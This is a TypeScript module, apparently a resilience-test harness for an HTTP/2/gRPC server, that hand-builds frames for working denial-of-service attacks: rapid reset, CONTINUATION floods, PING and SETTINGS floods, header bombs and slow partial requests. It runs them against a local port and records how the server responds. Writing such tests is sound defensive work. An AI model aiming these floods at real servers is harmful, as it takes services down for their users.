// Clients of an HTTP/2 port that mean it ill: frames by hand (RFC 9113), sent for as long as the server takes them.
import {connect, type Socket} from 'node:net';
import {once} from 'node:events';

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const [data, headers, priority, reset, settings, ping, windowUpdate, continuation] = [0, 1, 2, 3, 4, 6, 8, 9];
const goaway = 7,
  endStream = 1,
  endHeaders = 4;

export function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
const number = (value: number): Buffer => {
  const out = Buffer.alloc(4);
  out.writeUInt32BE(value);
  return out;
};
// Literals without indexing (RFC 7541 §6.2.2).
function block(fields: [string, string][], first = 0): Buffer {
  const text = (value: string): Buffer => {
    const bytes = Buffer.from(value),
      length = [];
    if (bytes.length < 127) length.push(bytes.length);
    else {
      length.push(127);
      let rest = bytes.length - 127;
      for (; rest >= 128; rest >>= 7) length.push(128 | (rest & 127));
      length.push(rest);
    }
    return Buffer.concat([Buffer.from(length), bytes]);
  };
  return Buffer.concat(fields.flatMap(([name, value]) => [Buffer.from([first]), text(name), text(value)]));
}

export interface Target {
  address: string; // HOST:PORT
  method: string; // of a call that would be taken
  token?: string;
}
const call = ({method, token}: Target): Buffer =>
  block([
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', method],
    [':authority', 'x'],
    ['te', 'trailers'],
    ['content-type', 'application/grpc'],
    ...(token ? ([['authorization', `Bearer ${token}`]] as [string, string][]) : []),
  ]);

export interface Attack {
  begin?: (target: Target) => Buffer; // after the preface and SETTINGS
  next: (target: Target, n: number) => Buffer | undefined; // undefined: no more; it stays
  batch?: number; // of these in one write
  deaf?: boolean; // reads nothing
}
const opened = (target: Target, n: number): Buffer => frame(headers, endHeaders, 2 * n + 1, call(target));
const message = (size: number, sent: number): Buffer =>
  Buffer.concat([Buffer.from([0]), number(size), Buffer.alloc(sent, 10)]);

export const attacks: Record<string, Attack> = {
  'rapid reset': {
    next: (target, n) => Buffer.concat([opened(target, n), frame(reset, 0, 2 * n + 1, number(8))]),
    batch: 200,
  },
  'whole calls, reset': {
    next: (target, n) =>
      Buffer.concat([
        opened(target, n),
        frame(data, endStream, 2 * n + 1, message(100, 100)),
        frame(reset, 0, 2 * n + 1, number(8)),
      ]),
    batch: 100,
  },
  'CONTINUATION without end': {
    begin: (target) => frame(headers, 0, 1, call(target)),
    next: () => frame(continuation, 0, 1, block([['x', 'y'.repeat(8000)]])),
  },
  'empty CONTINUATION': {
    begin: (target) => frame(headers, 0, 1, call(target)),
    next: () => frame(continuation, 0, 1),
    batch: 500,
  },
  PING: {next: () => frame(ping, 0, 0, Buffer.alloc(8)), batch: 1000},
  'PING, and reads nothing': {next: () => frame(ping, 0, 0, Buffer.alloc(8)), batch: 1000, deaf: true},
  SETTINGS: {next: () => frame(settings, 0, 0), batch: 1000},
  'SETTINGS, and reads nothing': {next: () => frame(settings, 0, 0), batch: 1000, deaf: true},
  PRIORITY: {next: (_, n) => frame(priority, 0, 2 * n + 1, Buffer.concat([number(0), Buffer.from([16])])), batch: 500},
  WINDOW_UPDATE: {next: () => frame(windowUpdate, 0, 0, number(1)), batch: 1000},
  'empty DATA': {begin: (target) => opened(target, 0), next: () => frame(data, 0, 1), batch: 1000},
  'DATA by the byte': {
    begin: (target) => Buffer.concat([opened(target, 0), frame(data, 0, 1, message(1 << 20, 0))]),
    next: () => frame(data, 0, 1, Buffer.alloc(1)),
    batch: 1000,
  },
  'unknown frames': {next: () => frame(0x42, 0, 0, Buffer.alloc(4000))},
  'header bomb': {
    next: (target, n) =>
      frame(
        headers,
        endHeaders,
        2 * n + 1,
        Buffer.concat([call(target), block([['x', 'y'.repeat(3000)]], 0x40), Buffer.alloc(8000, 0xbe)]),
      ),
  },
  'half requests': {
    next: (target, n) =>
      n < 90 ? Buffer.concat([opened(target, n), frame(data, 0, 2 * n + 1, message(1 << 20, 600))]) : undefined,
    batch: 90,
  },
  'half header blocks': {begin: (target) => frame(headers, 0, 1, call(target)), next: () => undefined},
  'answers into a closed window': {
    begin: (target) => {
      const none = Buffer.concat([Buffer.from([0, 4]), number(0)]);
      return Buffer.concat([
        frame(settings, 0, 0, none),
        ...Array.from({length: 90}, (_, n) =>
          Buffer.concat([opened(target, n), frame(data, endStream, 2 * n + 1, message(0, 0))]),
        ),
      ]);
    },
    next: () => undefined,
  },
  'nothing at all': {next: () => undefined},
  'no HTTP/2': {next: () => Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n'), batch: 100},
};

export interface Attacked {
  sent: number;
  cut: boolean; // the server ended it
  goaway?: number; // and this is the code it said
}

// Until the server ends it, it stays for `ms`, or `most` bytes are sent.
export async function attack(target: Target, kind: Attack, most: number, ms: number): Promise<Attacked> {
  const port = Number(target.address.split(':').pop()),
    socket: Socket = connect(port, '127.0.0.1');
  const out: Attacked = {sent: 0, cut: false},
    heard: Buffer[] = [];
  socket.on('error', () => undefined);
  const closed = new Promise<void>((done) => socket.once('close', () => ((out.cut = true), done())));
  const until = Date.now() + ms;
  const waits = (what: Promise<unknown>): Promise<unknown> => {
    let timer: NodeJS.Timeout;
    const late = new Promise((done) => (timer = setTimeout(done, Math.max(0, until - Date.now()))));
    return Promise.race([what, closed, late]).finally(() => clearTimeout(timer));
  };
  await waits(once(socket, 'connect').catch(() => undefined));
  if (kind.deaf) socket.pause();
  else socket.on('data', (bytes: Buffer) => heard.length < 1000 && heard.push(bytes));
  socket.write(Buffer.concat([preface, frame(settings, 0, 0), kind.begin?.(target) ?? Buffer.alloc(0)]));
  for (let n = 0; !out.cut && out.sent < most && Date.now() < until; ) {
    const parts: Buffer[] = [];
    for (let i = 0; i < (kind.batch ?? 1); ++i) {
      const next = kind.next(target, n);
      if (!next) break;
      ++n;
      parts.push(next);
    }
    if (!parts.length) {
      await waits(new Promise(() => undefined));
      break;
    }
    const bytes = Buffer.concat(parts);
    out.sent += bytes.length;
    if (!socket.write(bytes)) await waits(once(socket, 'drain').catch(() => undefined));
    else await new Promise((done) => setImmediate(done));
  }
  const cut = out.cut;
  socket.destroy();
  await closed;
  out.cut = cut;
  for (let rest = Buffer.concat(heard); rest.length >= 9; rest = rest.subarray(9 + rest.readUIntBE(0, 3)))
    if (rest[3] === goaway && rest.length >= 17) out.goaway = rest.readUInt32BE(13);
  return out;
}
